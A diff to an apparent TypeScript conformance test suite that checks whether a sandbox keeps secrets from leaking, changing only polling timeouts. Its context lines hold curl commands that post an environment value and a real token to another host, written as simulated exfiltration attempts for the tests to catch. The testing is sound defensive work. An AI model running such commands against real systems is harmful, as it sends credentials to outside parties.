@@ -51,7 +51,7 @@ export function leakPromises(setup: ConformanceSetup): void {
     test("on a route that warns it passes, and is on record without its text", async () => {
       const { code } = await run(bottle(), `curl -fsS https://${otherHost}/warn -d "x=$GIVEN"`);
       expect(code).toBe(0);
-      await expect.poll(events).toContain("\"path\":\"/warn\"");
+      await expect.poll(events, { timeout: 10_000 }).toContain("\"path\":\"/warn\"");
       expect(await events()).toMatch(/"rule":"GIVEN"[^\n]*"path":"\/warn"/);
       expect(await events()).not.toContain(given);
     });
@@ -62,7 +62,7 @@ export function leakPromises(setup: ConformanceSetup): void {
       expect(rig().internet.requests.at(-1)?.headers["x-key"]).toBe(realToken);
       const { out } = await run(bottle(), `curl -sS https://${otherHost}/off -H "X-Key: $REAL_TOKEN"`);
       expect(JSON.parse(out)).toMatchObject({ reason: "placeholder-misused" });
-      await expect.poll(events).toContain("\"alarm\":true");
+      await expect.poll(events, { timeout: 10_000 }).toContain("\"alarm\":true");
     });
 
     test("a credential that got inside does not leave, even by a route that scans nothing", async () => {
